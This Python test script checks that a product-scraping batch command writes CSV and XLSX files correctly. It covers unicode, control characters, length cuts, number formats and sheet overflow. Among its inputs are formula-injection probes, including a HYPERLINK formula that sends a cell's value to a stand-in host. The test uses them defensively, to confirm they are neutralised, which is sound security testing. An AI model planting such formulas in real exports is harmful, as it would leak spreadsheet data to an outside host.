#!/usr/bin/env python3
"""Awkward values through the batch command's CSV and workbook, read back as a spreadsheet would:
the CSV with Python's csv module, the workbook with openpyxl. Usage: spreadsheet_forms_test.py CLI
"""
import csv
import io
import os
import subprocess
import sys
import tempfile
import zipfile

import openpyxl

CLI = sys.argv[1]
MISSING = "String Matching Failed"
LONG = "x" * 32766 + "\U0001F529" + "yy"  # the cut would fall inside the pair

# (the name's bytes in the page, the CSV's value, the workbook's value)
NAMES = [
    (b"Caf\xc3\xa9-Tasse \xe2\x98\x95", "Café-Tasse ☕", "Café-Tasse ☕"),
    (b"Caf\xe9-Tasse \x80 \x93q\x94", "Café-Tasse € “q”", "Café-Tasse € “q”"),
    (b"tab\there", "tab\there", "tab\there"),
    (b"line\r\nbreak", "line\r\nbreak", "line\r\nbreak"),
    (b'say "hi", then go', 'say "hi", then go', 'say "hi", then go'),
    (b'=HYPERLINK("http://x.example/?"&A1,"click")',
     '\'=HYPERLINK("http://x.example/?"&A1,"click")',
     '=HYPERLINK("http://x.example/?"&A1,"click")'),
    (b"-1,5", "'-1,5", "-1,5"),
    (b"-5.00", "-5.00", "-5.00"),
    (b"@SUM(A1)", "'@SUM(A1)", "@SUM(A1)"),
    (b"\tlead", "'\tlead", "\tlead"),
    (b"\rlead", "'\rlead", "\rlead"),
    (b"a\x01b\x0bc\x7f\xef\xbf\xbe", "a\x01b\x0bc\x7f\ufffe", "a\ufffdb\ufffdc\x7f\ufffd"),
    # openpyxl reads the escape as it stands; a spreadsheet shows _x0041_.
    (b"_x0041_", "_x0041_", "_x005F_x0041_"),
    (b"x" * 40000, "x" * 40000, "x" * 32767),
    (LONG.encode(), LONG, "x" * 32766),
]
# (the price in the page, the CSV's value, the workbook's value, its number format)
PRICES = [
    (b"12.50", "12.50", 12.5, "0.00"),
    (b"+5", "+5", 5, "0"),
    (b"-0.125", "-0.125", -0.125, "0.000"),
    (b"0" * 5000 + b"3.500", "0" * 5000 + "3.500", 3.5, "0.000"),  # no 5,004-digit number
    (b"1.234,50", "1.234,50", "1.234,50", "General"),
    (b"'12,5'", "'12,5'", "'12,5'", "General"),
    (b"1234567890123456", "1234567890123456", "1234567890123456", "General"),
    (b"=1+1", "'=1+1", "=1+1", "General"),
]


def record(reference, name, price, thumbnail=b"t.jpg"):
    return (b"{ 'REFERENCE' => '" + reference + b"', 'NAME' => '" + name + b"', 'PRICE' => " +
            price + b", 'MIN_QUANTITY_ORDERABLE' => 1, 'WEIGHT' => 0.5" +
            (b", 'THUMBNAIL' => '" + thumbnail + b"',  }, " if thumbnail else b" }, "))


def make_pages(folder):
    os.mkdir(folder)
    rows = []
    for i, (page, csv_value, book_value) in enumerate(NAMES):
        with open(os.path.join(folder, "n%02d.html" % i), "wb") as out:
            out.write(record(b"N%d" % i, page, b"1"))
        rows.append((["N%d" % i, "1", "t.jpg", csv_value], ["N%d" % i, 1, "t.jpg", book_value]))
    for i, (page, csv_value, book_value, _) in enumerate(PRICES):
        with open(os.path.join(folder, "p%02d.html" % i), "wb") as out:
            out.write(record(b"P%d" % i, b"n", page, None if i == 0 else b"t.jpg"))
        thumbnail = MISSING if i == 0 else "t.jpg"
        rows.append((["P%d" % i, csv_value, thumbnail, "n"], ["P%d" % i, book_value, thumbnail, "n"]))
    return rows


def collect(args, work):
    done = subprocess.run([CLI] + args, cwd=work, capture_output=True)
    assert done.returncode == 0, done.stderr
    return done


def check_csv(path, rows):
    data = open(path, "rb").read()
    assert data.startswith(b"\xef\xbb\xbfid,price,thumbnail,name\r\n"), data[:40]
    read = list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))
    assert read[0] == ["id", "price", "thumbnail", "name"]
    for got, (expected, _) in zip(read[1:], rows, strict=True):
        assert got == expected, (got[:1], got[3][:80], expected[3][:80])


def check_workbook(data, rows):
    archive = zipfile.ZipFile(io.BytesIO(data))
    first = archive.infolist()[0]
    assert first.filename == "docProps/app.xml" and first.compress_type == zipfile.ZIP_STORED
    assert all(entry.flag_bits & 0x08 == 0 for entry in archive.infolist())  # no data descriptors
    assert archive.testzip() is None
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert sheet.title == "Products" and sheet.freeze_panes == "A2"
    read = list(sheet.iter_rows())
    assert [cell.value for cell in read[0]] == ["id", "price", "thumbnail", "name"]
    prices = {row[1][1]: price[3] for row, price in zip(rows[len(NAMES):], PRICES)}
    for cells, (_, expected) in zip(read[1:], rows, strict=True):
        got = [cell.value for cell in cells]
        assert got == expected, (got[:1], str(got[3])[:80], str(expected[3])[:80])
        assert cells[0].data_type == "s" and cells[3].data_type == "s"  # never formulas
        if cells[1].value in prices:
            assert cells[1].number_format == prices[cells[1].value], cells[1].number_format
    widths = [sheet.column_dimensions[column].width - 182 / 256 for column in "ABCD"]  # margins
    # The longest id, "String Matching Failed", the widest a column is made.
    assert widths == [3, 60, 22, 60], widths


def check_sheets(work):
    """More rows than a sheet holds go on a second sheet, under the same frozen header."""
    rows = 1048575 + 2
    with open(os.path.join(work, "many", "all.html"), "wb") as out:
        out.write(record(b"r", b"n", b"1") * rows)
    collect(["many", "many.xlsx"], work)
    archive = zipfile.ZipFile(os.path.join(work, "many.xlsx"))
    workbook = archive.read("xl/workbook.xml").decode()
    assert 'name="Products"' in workbook and 'name="Products 2"' in workbook, workbook
    second = archive.read("xl/worksheets/sheet2.xml").decode()
    assert 'state="frozen"' in second and "<t>id</t>" in second
    assert second.count("<row ") == 3, second.count("<row ")


def main():
    with tempfile.TemporaryDirectory() as work:
        rows = make_pages(os.path.join(work, "data"))
        collect(["data", "out.csv"], work)
        check_csv(os.path.join(work, "out.csv"), rows)
        summary = collect(["data", "out.xlsx"], work).stderr.decode()
        assert summary.endswith(", a workbook, from 23 pages (1 with a field not found); "
                                "2 values cut to 32,767 characters\n"), summary
        check_workbook(open(os.path.join(work, "out.xlsx"), "rb").read(), rows)
        # The format asked for wins over the name's ending, standard output included.
        check_workbook(collect(["--format", "xlsx", "data", "-"], work).stdout, rows)
        collect(["--format=csv", "data", "out.txt"], work)
        check_csv(os.path.join(work, "out.txt"), rows)
        os.mkdir(os.path.join(work, "many"))
        check_sheets(work)
    print("CSV and workbook values read back as expected")


main()
